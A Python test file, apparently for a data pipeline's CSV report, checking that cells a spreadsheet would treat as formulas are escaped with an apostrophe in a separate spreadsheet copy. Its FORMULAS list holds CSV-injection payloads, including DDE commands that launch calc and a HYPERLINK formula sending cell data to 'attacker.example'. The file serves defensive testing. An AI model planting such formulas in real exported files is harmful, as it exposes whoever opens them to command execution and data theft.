"""What a person opens in a spreadsheet computes nothing, and what a program reads is what the file had."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline_app.sample.csvreport.spreadsheet import SPREADSHEET_NAME, escaped, write_copy
from tests.sample.inputs import Results, lines, process

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "@SUM(1)",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\uff1d1+1",
    "\uff201",
    "x;=1+1",
    "x\t-A1",
    "x\n@SUM(1)",
    "\u22121+A1",
    "=",
    "-1e5+A1",
    "+49 170;=1",
]
HARMLESS = [
    "",
    "+",
    "-",
    "-5",
    "+5",
    "-1,234.50",
    "-1.5e-7",
    "+49 170 1234567",
    "-5 %",
    "- 5",
    "a=b",
    "x-y",
    "a@example.org",
    "'=1",
]


def read(folder: Path) -> list[list[str]]:
    with (folder / SPREADSHEET_NAME).open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def with_cells(folder: Path, *cells: str) -> Results:
    written = ['"' + cell.replace('"', '""') + '"' for cell in cells]
    return process(folder, lines("id,value", [f"{number},{cell}" for number, cell in enumerate(written)]))


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_a_formula_is_a_text_in_the_copy_and_itself_in_the_cleaned_file(tmp_path: Path, formula: str) -> None:
    made = with_cells(tmp_path, "plain", formula, "more", *[f"text {number}" for number in range(12)])
    assert made.rows[2][1] == formula
    page = made.page()
    row = read(made.folder)[2]
    assert row == ["1", escaped(formula)]
    assert "1 cell would be taken for a formula by a spreadsheet" in page
    assert f'<a href="{SPREADSHEET_NAME}">' in page
    assert "has every value as it is" in page
    # Making the report changes nothing of what was there.
    assert formula in (made.folder / "cleaned.csv").read_bytes().decode().replace('""', '"')


def test_what_is_no_formula_makes_no_copy(tmp_path: Path) -> None:
    made = with_cells(tmp_path, *HARMLESS)
    page = made.page()
    assert not (made.folder / SPREADSHEET_NAME).exists()
    assert "formula" not in page
    assert '<a href="cleaned.csv">' in page


@pytest.mark.parametrize("cell", HARMLESS, ids=ascii)
def test_a_number_with_a_sign_stays_a_number(cell: str) -> None:
    assert escaped(cell) == cell


def test_a_header_that_is_a_formula_is_a_text_too(tmp_path: Path) -> None:
    made = process(tmp_path, lines("id,=1+1", [f"{number},text {number}" for number in range(12)]))
    made.page()
    assert read(made.folder)[0] == ["id", "'=1+1"]


def test_a_copy_that_is_not_needed_any_more_goes(tmp_path: Path) -> None:
    cleaned = tmp_path / "cleaned.csv"
    cleaned.write_text("a\n=1\n")
    assert write_copy(cleaned) == (tmp_path / SPREADSHEET_NAME, 1)
    cleaned.write_text("a\n1\n")
    assert write_copy(cleaned) is None
    assert not (tmp_path / SPREADSHEET_NAME).exists()


@given(st.lists(st.sampled_from([*"=@+-;\t\r\n a1.,'%", "\u00a0", "\uff1d", "cmd"]), max_size=9).map("".join))
def test_nothing_in_the_copy_begins_like_a_formula(cell: str) -> None:
    safe = escaped(cell)
    for part in re.split("[;\t\r\n]", safe):
        begin = part.strip()
        assert not begin.startswith(("=", "@", "\uff1d"))
        if begin.startswith(("+", "-")):
            # It is a number, or the sign alone.
            digits = re.sub(r"[\s.,'%]", "", begin[1:])
            assert digits == "" or digits.isdecimal(), (cell, safe)
    # Only apostrophes were added.
    assert safe.replace("'", "") == cell.replace("'", "")
    assert escaped(safe) == safe
